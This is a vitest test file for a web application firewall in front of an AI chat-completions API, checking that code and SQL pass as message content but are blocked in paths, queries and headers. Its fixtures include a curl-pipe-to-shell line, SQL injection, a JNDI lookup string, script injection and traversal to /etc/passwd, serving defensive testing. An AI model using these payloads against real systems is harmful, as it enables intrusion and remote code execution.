// Text for people and models is no query: sentences, code and SQL pass where they are data, and are blocked where a web
// application would run them. After faults that users of other systems hit.
import { describe, expect, it } from "vitest";
import {
  compileWaf,
  DEFAULT_SURFACE_LIMITS,
  DEFAULT_WAF_CONFIG,
  parseRawRequest,
} from "../../../../guards/waf/index.ts";

const waf = compileWaf(DEFAULT_WAF_CONFIG);

const CODE = [
  "Why is SELECT count(*) FROM orders slow?",
  "ALTER TABLE a ADD b int;\nDROP TABLE c;\nSELECT 1 UNION SELECT 2;\n".repeat(20),
  "#!/bin/sh\ncurl https://a.example/install | sh\n",
  "<html><script>alert(1)</script></html>",
  "Error: ENOENT\n    at open (../../etc/passwd:1:2)\n    at main (a.js:3:4)",
  '#include <stdlib.h>\nint main() { return system("ls"); }',
  "information_schema 需要哪些权限？",
  "' or 1=1 --.*\n<script.*\n\\.\\./\\.\\./\n",
];
const SENTENCES = [
  "Fee is 0.03/min (UK) and 0.05/min (FR)",
  "that is not clear",
  "Turn left (2 km)",
  'I accept the <a href="/terms/">terms</a>',
  'He said "stop"!',
  "GRANT Street 12",
  "78--ab12cd34",
  "O'Brien",
  "select a plan; drop off",
];

function chat(body: object): boolean {
  return waf(
    parseRawRequest(
      `POST /v1/chat/completions HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ model: "m", ...body })}`,
      DEFAULT_SURFACE_LIMITS,
    ),
  ).blocked;
}

function get(target: string, header = "b"): boolean {
  return waf(
    parseRawRequest(`GET ${target} HTTP/1.1\r\nHost: a.example\r\nX-Note: ${header}\r\n\r\n`, DEFAULT_SURFACE_LIMITS),
  ).blocked;
}

describe("an inference request", () => {
  it.each([...CODE, ...SENTENCES])("passes %j in a message, in user and in metadata", (text) => {
    expect(chat({ messages: [{ role: "user", content: text }] })).toBe(false);
    expect(
      chat({ messages: [{ role: "user", content: "hi", name: text }], user: text, metadata: { note: text } }),
    ).toBe(false);
  });

  it("is blocked where user or metadata are nothing but a way out of a string, or a logger's lookup", () => {
    expect(chat({ messages: [], user: "x' or 3=3 --" })).toBe(true);
    expect(chat({ messages: [], metadata: { a: "$" + "{jndi:ldap://a.example/b}" } })).toBe(true);
  });

  it("is judged in full in fields that are no prose", () => {
    expect(chat({ messages: [], model: "../../etc/passwd" })).toBe(true);
  });
});

describe("the same text in the path, in a query or in a header", () => {
  it.each(CODE)("is blocked: %j", (text) => {
    expect(get(`/v1/models/${encodeURIComponent(text)}`)).toBe(true);
    expect(get(`/v1/origins/a/b?q=${encodeURIComponent(text)}`)).toBe(true);
    expect(get("/v1/models", text.replaceAll("\n", " "))).toBe(true);
  });

  it.each(SENTENCES)("passes where it is a sentence: %j", (text) => {
    expect(get(`/v1/origins/a/b?q=${encodeURIComponent(text)}`)).toBe(false);
    expect(get("/v1/models", text)).toBe(false);
  });
});
